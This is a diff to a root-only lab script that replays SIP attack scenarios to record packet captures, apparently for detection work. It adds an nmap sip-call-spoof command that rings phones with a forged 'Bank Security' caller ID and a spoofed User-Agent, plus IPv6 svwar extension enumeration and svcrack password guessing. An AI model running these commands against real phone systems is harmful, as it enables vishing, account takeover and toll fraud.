@@ -27,7 +27,8 @@ svmap-ports svmap-register svmap-compact svmap-slow svmap-ipv6-sweep
 svwar-dict svwar-invite-phone svwar-slow svwar-padded
 svcrack-range svcrack-wrong-dict sipsak-variants nmap-enum-names nmap-brute-other
 sipp-register-flood sipp-options-tcp sipp-invite-slow distributed-ua changed-ua-invite-crack
-distributed-thin svmap-ports-onehost sipp-register-enum-tcp sipp-tollfraud-dial"
+distributed-thin svmap-ports-onehost sipp-register-enum-tcp sipp-tollfraud-dial
+nmap-call-spoof ipv6-invite-crack"
 
 if [ "${1:-}" = --list ]; then echo $SCENARIOS; exit 0; fi
 if [ "$(id -u)" -ne 0 ]; then echo "record.sh: must run as root" >&2; exit 1; fi
@@ -258,6 +259,20 @@ s_changed-ua-invite-crack() {
 		--fromname 100 192.0.2.8-24
 	run att2 python3 "$HERE/sv-ua.py" 'Linksys/SPA942-6.1.5a' svcrack -v -x $LAB_ATT2 -u 100 \
 		-d "$DATA/svcrack-passwords.txt" $LAB_PBX
+}
+
+# nmap's sip-call-spoof: one call straight to each phone with a forged
+# caller ID and User-Agent (the phones ring).
+s_nmap-call-spoof() {
+	run att1 $NMAP --script sip-call-spoof --script-args \
+		'sip-call-spoof.ua=Cisco-SIPGateway/IOS-12.x,sip-call-spoof.from=Bank Security,sip-call-spoof.extension=100,sip-call-spoof.timeout=3s' \
+		$LAB_PH1 $LAB_PH2
+}
+# IPv6: an INVITE enumeration of the PBX, paced (-t 0.5), then numeric
+# password guessing.
+s_ipv6-invite-crack() {
+	run att1 svwar -v -6 -m INVITE -t 0.5 -e 98-108 $LAB_PBX6
+	run att1 svcrack -v -6 -u 101 -r 1000-1009 $LAB_PBX6
 }
 
 # Floods are kept to their first packets (the captures stay small; a flood
